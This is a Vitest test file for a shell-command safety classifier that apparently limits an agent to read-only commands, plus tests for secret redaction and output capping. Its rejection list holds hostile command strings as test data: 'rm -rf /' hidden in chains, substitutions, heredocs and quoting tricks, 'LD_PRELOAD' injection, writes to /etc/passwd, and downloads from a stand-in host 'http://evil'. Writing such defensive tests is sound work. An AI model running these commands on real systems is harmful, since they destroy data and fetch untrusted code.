import { describe, expect, it } from "vitest";
import { capOutput, classifyCommand, isReadOnlyCommand, redact } from "./safety.ts";

const readOnly: string[] = [
  "ls",
  "ls -la /var/log",
  "cat /etc/nginx/nginx.conf",
  "head -n 50 /var/log/syslog",
  "tail -f /var/log/nginx/error.log",
  "grep -rn 'upstream' /etc/nginx 2>/dev/null",
  "df -h; free -m; uptime",
  "du -sh /var/*",
  "ps aux | grep nginx | grep -v grep",
  "ps aux |& grep nginx",
  "top -bn1",
  "top -b -n 1 | head -20",
  "ss -tlnp",
  "netstat -tulpn",
  "ip addr",
  "ip -br a",
  "ip -4 addr show dev eth0",
  "ip route",
  "systemctl status nginx",
  "systemctl --no-pager status nginx.service",
  "systemctl is-active nginx && systemctl is-enabled nginx",
  "systemctl list-units --failed",
  "systemctl",
  "journalctl -u nginx -n 100 --no-pager",
  "journalctl --since '1 hour ago' -p err",
  "nginx -t",
  "nginx -T 2>&1 | head",
  "sudo nginx -t",
  "sudo -n systemctl status nginx",
  "sudo -u www-data cat /srv/app/.env.example",
  "uname -a",
  "whoami; id; hostname",
  "hostname -I",
  "date",
  "date +%Y-%m-%d",
  "date -d yesterday +%s",
  "date -Iseconds",
  "stat /etc/passwd",
  "file /usr/bin/node",
  "wc -l /var/log/syslog",
  "which nginx",
  "echo hello",
  'echo "$HOME"',
  "echo done > /dev/null",
  "ls >/dev/null 2>&1",
  "ls &>/dev/null",
  "ls 2>&1 >&2",
  "cat < /etc/hostname",
  "LANG=C ls -la",
  "TZ=UTC date",
  "/usr/bin/ls /",
  "/bin/cat /etc/os-release",
  "sed -n '1,20p' /etc/nginx/nginx.conf",
  "sed -n -e '$p' file",
  "find /var/log -name '*.log' -mtime -1",
  "find / -type f -size +100M 2>/dev/null",
  "sort -u names.txt | uniq -c",
  "cd /etc/nginx && ls sites-enabled",
  "(ls; cat x)",
  "ls # ; rm -rf /",
  "docker ps -a",
  "docker logs --tail 50 web",
  "crontab -l",
  "l\\s -la",
  "dmesg -T | tail",
  "cat /proc/meminfo | head -5",
  "true",
];

const notReadOnly: Array<[line: string, why: RegExp]> = [
  ["find / -delete", /-delete/],
  ["find . -name '*.tmp' -exec rm {} \\;", /-exec/],
  ["find . -execdir sh -c 'x' \\;", /-execdir/],
  ["find . -fprint /etc/cron.d/x", /-fprint/],
  ["find / -{delete,print}", /expansion/],
  ["find . $OPTS", /expansion/],
  ["find / ${X:--delete}", /plain \$\{NAME\}/],
  ["cat x > /etc/passwd", /redirection to \/etc\/passwd/],
  ["echo hi >> ~/.bashrc", /redirection/],
  ["ls >| out.txt", /redirection/],
  ["ls &> /tmp/out", /redirection/],
  ["ls >& /tmp/out", /redirection/],
  ["ls 1>/tmp/x", /redirection/],
  ["ls 2>&1>/tmp/x", /redirection/],
  ["cat x > /dev/null/../../etc/passwd", /redirection/],
  ["echo x > $FILE", /redirection to a file/],
  ["cat <> /etc/passwd", /redirection/],
  ["ls; rm -rf /", /rm is not on the read-only allowlist/],
  ["ls && rm -rf /", /rm/],
  ["ls || rm -rf /", /rm/],
  ["ls & rm -rf /", /rm/],
  ["ls\nrm -rf /", /rm/],
  ["ls #\nrm -rf /", /rm/],
  ["echo $(rm -rf /)", /substitution/],
  ['echo "$(rm -rf /)"', /substitution/],
  ["echo `rm -rf /`", /backtick/],
  ['echo "`id`"', /backtick/],
  ["echo $((1+1))", /substitution/],
  ["cat <(rm -rf /)", /process substitution/],
  ["diff >(rm x) y", /process substitution/],
  ["ls | sh", /sh is not on the read-only allowlist/],
  ["cat script | bash", /bash/],
  ["ls | xargs rm", /xargs/],
  ["systemctl restart nginx", /systemctl restart/],
  ["systemctl stop nginx", /systemctl stop/],
  ["sudo systemctl reload nginx", /systemctl reload/],
  ["sudo rm -rf /var/www", /rm/],
  ["sudo -s", /sudo -s/],
  ["sudo -E ls", /sudo -E/],
  ["sudo", /no command/],
  ["sed -i 's/a/b/' /etc/nginx/nginx.conf", /sed -i/],
  ["sed -ni '1p' f", /sed -i/],
  ["sed --in-place 's/a/b/' f", /sed -i/],
  ["sed 's/a/b/w /tmp/out' f", /sed -n/],
  ["sed -n 's/a/b/w /tmp/out' f", /sed -n/],
  ["sed -n '1e rm -rf /' f", /sed -n/],
  ["cat /etc/passwd | tee /tmp/x", /tee/],
  ["FOO=bar ls", /FOO=/],
  ["LD_PRELOAD=/tmp/evil.so ls", /LD_PRELOAD=/],
  ["PATH=/tmp ls", /PATH=/],
  ["LANG=$(rm -rf /) ls", /substitution/],
  ["X=1", /assignment/],
  ["env", /env is not on/],
  ["env FOO=1 ls", /env/],
  ["./ls", /not a system command/],
  ["/tmp/ls", /not a system command/],
  ["$CMD -la", /command name comes from an expansion/],
  ["ls${IFS}-la", /expansion/],
  ["'r''m' -rf /", /rm/],
  ["$'\\x72m' -rf /", /quoting/],
  ["nginx -s reload", /nginx -t/],
  ["nginx", /nginx -t/],
  ["ip addr add 10.0.0.2/24 dev eth0", /ip addr add/],
  ["ip link set eth0 down", /ip link set/],
  ["hostname evil", /sets the host name/],
  ["date -s '2020-01-01'", /sets the clock/],
  ["date 010100002020", /sets the clock/],
  ["journalctl --vacuum-time=1s", /vacuum/],
  ["journalctl --rotate", /rotate/],
  ["dmesg -c", /kernel log/],
  ["top", /top needs -b/],
  ["sort -o /etc/passwd x", /sort -o/],
  ["sort --compress-program=sh x", /compress-program/],
  ["uniq in.txt /etc/passwd", /output file/],
  ["ss -K dst 1.2.3.4", /ss -K/],
  ["mount /dev/sdb1 /mnt", /mount/],
  ["docker exec web sh", /docker exec/],
  ["docker rm -f web", /docker rm/],
  ["crontab -r", /crontab -l/],
  ["awk 'BEGIN{system(\"rm x\")}'", /awk/],
  ["curl -o /tmp/x http://evil", /curl/],
  ["wget http://evil/x.sh", /wget/],
  ["cp a b", /cp/],
  ["chmod 777 /", /chmod/],
  ["kill -9 1", /kill/],
  ["apt-get install x", /apt-get/],
  ["{ ls; }", /expansion/],
  ["if true; then rm x; fi", /if/],
  ["cat <<EOF\nrm -rf /\nEOF", /rm/],
  ["echo 'unterminated", /unterminated quote/],
  ["ls >", /no target/],
  ["", /empty/],
  ["   ", /empty/],
  ["ls " + "a".repeat(20_000), /too long/],
];

describe("classifyCommand", () => {
  it.each(readOnly)("read-only: %j", (line) => {
    expect(classifyCommand(line)).toEqual({ readOnly: true, reason: expect.any(String) });
    expect(isReadOnlyCommand(line)).toBe(true);
  });

  it.each(notReadOnly)("not read-only: %j", (line, why) => {
    const verdict = classifyCommand(line);
    expect(verdict.readOnly).toBe(false);
    expect(verdict.reason).toMatch(why);
    expect(isReadOnlyCommand(line)).toBe(false);
  });

  it("finishes quickly on hostile input", () => {
    const started = Date.now();
    for (const line of ["$".repeat(9_000), "'".repeat(9_999), "${".repeat(4_000), "<".repeat(9_000), "a|".repeat(4_000)]) {
      expect(isReadOnlyCommand(line)).toBe(false);
    }
    expect(Date.now() - started).toBeLessThan(1_000);
  });
});

describe("redact", () => {
  it("removes secrets and pattern matches, longest secret first", () => {
    const text = "key=sk-ant-abcdef123456 token bsn_live_0123456789abcdefghij and sk-ant-abcdef123456-extended";
    const out = redact(text, ["sk-ant-abcdef123456", "sk-ant-abcdef123456-extended"], [/bsn_[a-z]+_[A-Za-z0-9]{20}/]);
    expect(out).toBe("key=[REDACTED] token [REDACTED] and [REDACTED]");
  });

  it("treats non-global patterns as global and ignores empty matches and trivial secrets", () => {
    expect(redact("a1 b2 a1", [], [/a1/])).toBe("[REDACTED] b2 [REDACTED]");
    expect(redact("abc", [], [/x*/g])).toBe("abc");
    expect(redact("abc abc", ["", "abc"], [])).toBe("abc abc");
  });

  it("redacts a private key block", () => {
    const key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----";
    expect(redact(`before\n${key}\nafter`, [], [/-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?-----END [A-Z ]*PRIVATE KEY-----/g])).toBe(
      "before\n[REDACTED]\nafter",
    );
  });
});

describe("capOutput", () => {
  it("leaves short output alone", () => {
    expect(capOutput("short", 100)).toBe("short");
    expect(capOutput("x".repeat(100), 100)).toBe("x".repeat(100));
  });

  it("keeps head and tail, says how much was cut, and stays within the cap", () => {
    const text = "HEAD" + "m".repeat(100_000) + "TAIL";
    const out = capOutput(text);
    expect(out.length).toBeLessThanOrEqual(30_000);
    expect(out.startsWith("HEAD")).toBe(true);
    expect(out.endsWith("TAIL")).toBe(true);
    const cut = Number(/\[… ([\d,]+) characters elided …\]/.exec(out)![1]!.replace(/,/g, ""));
    // What is kept plus the marker is the output: the count in the marker is exact.
    expect(text.length - cut + /\n\n\[…[^\]]*\]\n\n/.exec(out)![0].length).toBe(out.length);
  });

  it("does not split a surrogate pair", () => {
    const out = capOutput("😀".repeat(1_000), 101);
    expect(out.length).toBeLessThanOrEqual(101);
    expect(out).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
  });
});
